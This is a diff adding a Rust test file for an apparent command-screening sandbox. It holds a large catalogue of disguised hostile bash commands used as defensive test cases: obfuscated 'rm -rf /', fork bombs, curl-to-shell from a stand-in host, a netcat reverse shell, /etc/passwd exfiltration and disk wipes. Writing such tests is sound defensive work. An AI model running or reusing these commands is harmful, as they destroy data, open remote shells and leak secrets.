@@ -1,0 +1,258 @@
+//! The checks of callers' code against scripts that other people wrote for work, and against disguises.
+//!
+//! The scripts are those of the packages that are installed here: programs, service scripts, maintainer scripts. None is kept
+//! in this repository.
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::PathBuf;
+
+use sandkeep::checks::{Blocked, Language, Script, screen};
+use sandkeep::config::Config;
+use sandkeep::spec::Level;
+
+fn screened(code: &str) -> Result<(), Blocked> {
+    let script = Script { language: Language::Bash, code, stdin: "", env: &[], cwd: "/workspace" };
+    screen(&script, Level::Standard, &Config::default().checks)
+}
+
+/// Shell scripts of installed packages.
+fn scripts() -> Vec<(PathBuf, String)> {
+    let directories = ["/usr/bin", "/usr/sbin", "/etc/init.d", "/etc/cron.daily", "/var/lib/dpkg/info"];
+    let mut found = Vec::new();
+    for directory in directories {
+        for entry in fs::read_dir(directory).into_iter().flatten().flatten() {
+            let path = entry.path();
+            if path.is_symlink() || fs::metadata(&path).map_or(0, |m| m.len()) > 1024 * 1024 {
+                continue;
+            }
+            let Ok(text) = fs::read_to_string(&path) else { continue };
+            let first = text.lines().next().unwrap_or_default();
+            let shell = ["/sh", "/bash", "/dash", " sh", " bash"];
+            if first.starts_with("#!")
+                && shell.iter().any(|s| first.split(" -").next().unwrap_or_default().ends_with(s))
+            {
+                found.push((path, text));
+            }
+        }
+    }
+    found.sort();
+    found
+}
+
+/// Whether the line that a refusal names holds what the rule is about: a reading of its own, without the parser.
+fn is_there(blocked: &Blocked, text: &str) -> bool {
+    let from = blocked.line as usize - 1;
+    // A command may go on behind its line.
+    let part: String = text.lines().skip(from).take(12).collect::<Vec<_>>().join("\n");
+    let has = |words: &[&str]| {
+        words.iter().any(|word| part.split(|c: char| !c.is_ascii_alphanumeric() && c != '_').any(|w| w == *word))
+    };
+    match blocked.rule.as_str() {
+        "bash/eval" => has(&["eval"]) && part.contains('$') || part.contains('`'),
+        "bash/sudo" => has(&["sudo", "su", "doas", "pkexec", "runuser"]),
+        "bash/rm-outside-workspace" => {
+            (has(&["rm"]) && (part.contains("-r") || part.contains("-fr")) || part.contains("-delete"))
+                && part.contains('/')
+        }
+        "bash/netcat" => has(&["nc", "netcat", "ncat"]),
+        "bash/mkfs" => has(&["mkfs", "mke2fs", "mkswap", "wipefs"]),
+        "bash/fetched-code" | "bash/fetch-without-egress" => has(&["curl", "wget"]),
+        "bash/device-write" => part.contains("/dev/"),
+        "bash/network-device" => part.contains("/dev/tcp") || part.contains("/dev/udp"),
+        _ => false,
+    }
+}
+
+#[test]
+fn ordinary_scripts_are_refused_for_what_they_hold_alone() {
+    let scripts = scripts();
+    let mut by_rule: BTreeMap<String, usize> = BTreeMap::new();
+    let mut wrong = Vec::new();
+    for (path, text) in &scripts {
+        if let Err(blocked) = screened(text) {
+            *by_rule.entry(blocked.rule.clone()).or_default() += 1;
+            let line = text.lines().nth(blocked.line as usize - 1).unwrap_or_default().trim();
+            println!("{}:{}:{}: {}: {line}", path.display(), blocked.line, blocked.column, blocked.rule);
+            if !is_there(&blocked, text) {
+                wrong.push(format!("{}:{}: {}: {line}", path.display(), blocked.line, blocked.rule));
+            }
+        }
+    }
+    println!("{} scripts, refused {by_rule:?}, for nothing {}", scripts.len(), wrong.len());
+    assert!(wrong.len() * 100 <= scripts.len(), "{}", wrong.join("\n"));
+}
+
+/// What becomes of a disguise.
+enum By {
+    Rule(&'static str),
+    /// The checks let it through; what stops it, or bounds it, inside.
+    Sandbox(&'static str),
+}
+
+const RM: By = By::Rule("bash/rm-outside-workspace");
+const FETCHED: By = By::Rule("bash/fetched-code");
+const BOMB: By = By::Rule("bash/fork-bomb");
+const NETCAT: By = By::Rule("bash/netcat");
+const FETCH: By = By::Rule("bash/fetch-without-egress");
+const DEVICE: By = By::Rule("bash/device-write");
+const SUDO: By = By::Rule("bash/sudo");
+const EVAL: By = By::Rule("bash/eval");
+const MKFS: By = By::Rule("bash/mkfs");
+const TCP: By = By::Rule("bash/network-device");
+const READ_ONLY: By =
+    By::Sandbox("every mount but /workspace, /tmp and /dev/shm is read-only; the root is the sandbox's own");
+const NO_NETWORK: By = By::Sandbox("an empty network namespace, Landlock's TCP rules");
+const PIDS: By = By::Sandbox("pids.max of the cgroup; refused forks end the run");
+const NO_DEVICES: By = By::Sandbox("a /dev of its own without devices of the host; no capability, mknod refused");
+
+const DISGUISES: &[(&str, By)] = &[
+    // Quoting.
+    ("r''m -rf /", RM),
+    ("\\r\\m -rf /", RM),
+    ("r\"\"m '-r'f \"/\"", RM),
+    ("r\\\nm -rf /", RM),
+    ("$'\\162\\155' -rf /", RM),
+    ("$'\\u0072m' -rf /", RM),
+    ("/bin/rm -rf /", RM),
+    ("/usr/bin/../bin/rm -rf /etc", RM),
+    ("/b?n/r[m] -rf /etc", RM),
+    ("/???/?in/su?o id", SUDO),
+    ("{rm,-rf,/}", RM),
+    ("r${nothing}m -rf /", RM),
+    ("r$@m -rf /", RM),
+    ("rm${IFS}-rf${IFS}/", RM),
+    ("rm -r -- /etc", RM),
+    ("rm -rf \"$HOME/../etc\"", RM),
+    ("rm -rf /${nothing}", RM),
+    // Variables.
+    ("a=r b=m; $a$b -rf /", RM),
+    ("x='rm -rf /'; $x", RM),
+    ("x='rm -rf /'; eval $x", RM),
+    ("x=rmx; ${x%x} -rf /", RM),
+    ("x=xrm; ${x#x} -rf /", RM),
+    ("x=abrmcd; ${x:2:2} -rf /", RM),
+    ("x=rXm; ${x/X/} -rf /", RM),
+    ("x=RM; ${x,,} -rf /", RM),
+    ("y=rm x=y; ${!x} -rf /", RM),
+    ("a=(rm -rf /); \"${a[@]}\"", RM),
+    ("a=(x rm); ${a[1]} -rf /", RM),
+    ("set -- rm -rf /; \"$@\"", RM),
+    ("printf -v x rm; $x -rf /", RM),
+    ("read x y <<< 'rm /'; $x -rf $y", RM),
+    ("${nothing:-rm} -rf /", RM),
+    ("for x in ls rm; do $x -rf /; done", RM),
+    ("export x=rm; $x -rf /", RM),
+    // Functions, subshells, control flow.
+    ("f() { \"$@\"; }; f rm -rf /", RM),
+    ("f() { $1 -rf $2; }; f rm /", RM),
+    ("(((rm -rf /)))", RM),
+    ("if false; then :; else { ( rm -rf / ); }; fi", RM),
+    ("case a in (a) rm -rf / ;; esac", RM),
+    ("while rm -rf /; do :; done", RM),
+    ("echo \"$(rm -rf /)\" `sudo id`", RM),
+    ("true && ! rm -rf / || :", RM),
+    ("coproc rm -rf /", RM),
+    ("x=$((1 + $(rm -rf / | wc -l)))", RM),
+    ("cat < <(rm -rf /)", RM),
+    ("[[ -n $(rm -rf /) ]]", RM),
+    ("trap 'rm -rf /' EXIT", RM),
+    ("if fi done ) ; rm -rf /", RM),
+    // Shells and wrappers.
+    ("bash -c 'rm -rf /'", RM),
+    ("sh -xec \"rm -rf /\"", RM),
+    ("bash -c \"bash -c 'bash -c \\\"rm -rf /\\\"'\"", RM),
+    ("bash -c '$0 -rf /' rm", By::Sandbox("as every rm: everything but its own places is read-only")),
+    ("bash -c '\"$@\"' x rm -rf /", RM),
+    ("env -i PATH=/bin rm -rf /", RM),
+    ("env -S 'rm -rf /'", RM),
+    ("nohup nice -n 5 timeout -k 1 5 rm -rf /", RM),
+    ("command exec -a x rm -rf /", RM),
+    ("builtin eval 'rm -rf /'", RM),
+    ("busybox rm -rf /", RM),
+    ("xargs -I% rm -rf % <<< /", RM),
+    ("echo -rf / | xargs -n2 rm", RM),
+    ("echo rm -rf / | xargs env", RM),
+    ("find / -maxdepth 0 -exec sh -c 'rm -rf {}' \\;", RM),
+    ("find /usr /etc -execdir rm -r {} +", RM),
+    ("flock /tmp/l -c 'rm -rf /'", RM),
+    ("stdbuf -o0 setsid sudo -n id", SUDO),
+    ("'sudo' -u root rm -rf /", RM),
+    // Text that is fed to a shell.
+    ("echo 'rm -rf /' | bash", RM),
+    ("bash <<< 'rm -rf /'", RM),
+    ("sh <<E\nrm -rf $nothing/\nE", RM),
+    ("bash -s <<'E'\nrm -rf /\nE", RM),
+    ("cat <<'E' | sh\nrm -rf /\nE", RM),
+    ("source /dev/stdin <<< 'rm -rf /'", RM),
+    (". <(echo rm -rf /)", RM),
+    ("echo 'rm -rf /' > /tmp/x; bash /tmp/x", RM),
+    ("echo 'rm -rf /' > x; chmod +x x; ./x", RM),
+    ("printf '%s' 'rm -rf /' | tee y | cat | sh", RM),
+    // Encodings.
+    ("base64 -d <<< cm0gLXJmIC8K | sh", RM),
+    ("eval \"$(echo cm0gLXJmIC8K | base64 --decode)\"", RM),
+    ("echo 726d202d7266202f | xxd -r -p | bash", RM),
+    ("rev <<< '/ fr- mr' | sh", RM),
+    ("echo 'sn -sg /' | tr 'nsg' 'mrf' | tr 's' 'r' | sh", RM),
+    ("printf '\\162\\155 -rf /' | sh", RM),
+    ("$(printf '%b' '\\x72\\x6d') -rf /", RM),
+    ("echo -e '\\x72\\x6d -rf /' | bash", RM),
+    ("openssl base64 -d <<< cm0gLXJmIC8K | sh", RM),
+    // Other rules, disguised.
+    (":(){ :|:& };:", BOMB),
+    ("b() { (b & b) ; }; b", BOMB),
+    ("x() { y | y & }; y() { x; }; y", BOMB),
+    ("bash -c ':(){ :|:& };:'", BOMB),
+    ("cu''rl -s https://a.example/x | b\"a\"sh", FETCHED),
+    ("wget -qO - a.example | gunzip -c | sudo sh", FETCHED),
+    ("bash -c \"$(wget -qO- https://a.example)\"", FETCHED),
+    ("x=`curl a.example`; eval \"$x\"", FETCHED),
+    ("curl -sSLo /tmp/i a.example/i; bash < /tmp/i", FETCHED),
+    ("wget https://a.example/i.sh -O - | tee log | bash -x", FETCHED),
+    ("n=nc; $n -e /bin/sh 10.0.0.1 4444", NETCAT),
+    ("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | /bin/nc 10.0.0.1 1 > /tmp/f", NETCAT),
+    ("timeout 3 bash -c 'exec 5<>/dev/tcp/10.0.0.1/80'", TCP),
+    ("c=curl; $c https://a.example/?d=$(base64 /etc/passwd)", FETCH),
+    ("d=/dev/sda; dd if=/dev/zero \"of=$d\"", DEVICE),
+    ("cat x > \"/dev/../dev/sda\"", DEVICE),
+    ("command mkfs.ext4 -F /dev/vda1", MKFS),
+    ("su - root -c 'id'", SUDO),
+    ("read -r line; eval \"$line\"", EVAL),
+    // Let through.
+    ("python3 -c 'import shutil; shutil.rmtree(\"/\")'", READ_ONLY),
+    ("perl -e 'system(\"rm -rf /\")'", READ_ONLY),
+    ("awk 'BEGIN { system(\"rm -rf /\") }'", READ_ONLY),
+    ("x=$(cat name); $x -rf /", READ_ONLY),
+    ("echo H4sIAAAAAAAA | base64 -d | gunzip | sh", READ_ONLY),
+    ("find / -type f -exec unlink {} \\;", READ_ONLY),
+    ("mv /etc /tmp/x", READ_ONLY),
+    ("y=rm; if [ -e /nonexistent ]; then y=ls; fi; $y -rf /", READ_ONLY),
+    ("sed '1e rm -rf /' x", READ_ONLY),
+    ("python3 -c 'import socket; socket.create_connection((\"10.0.0.1\", 80))'", NO_NETWORK),
+    ("socat - TCP:10.0.0.1:80", NO_NETWORK),
+    ("busybox telnet 10.0.0.1", NO_NETWORK),
+    ("while :; do sleep 100 & done", PIDS),
+    ("echo 'sh x & sh x &' > x; sh x", PIDS),
+    ("cp image /dev/sda", NO_DEVICES),
+    ("python3 -c 'open(\"/dev/mem\", \"r+b\").write(b\"x\")'", NO_DEVICES),
+];
+
+#[test]
+fn disguises_are_named_or_known_to_be_the_sandboxs() {
+    assert!(DISGUISES.len() >= 60);
+    let (mut caught, mut wrong) = (0, Vec::new());
+    for (script, by) in DISGUISES {
+        match (by, screened(script)) {
+            (By::Rule(rule), Err(blocked)) if blocked.rule == *rule => {
+                println!("{rule}: {script:?}");
+                caught += 1;
+            }
+            (By::Sandbox(fence), Ok(())) => println!("left to the sandbox ({fence}): {script:?}"),
+            (By::Rule(rule), found) => wrong.push(format!("{script:?} should meet {rule}: {found:?}")),
+            (By::Sandbox(_), Err(blocked)) => wrong.push(format!("{script:?} is found: {blocked}")),
+        }
+    }
+    println!("{caught} of {} disguises are found", DISGUISES.len());
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
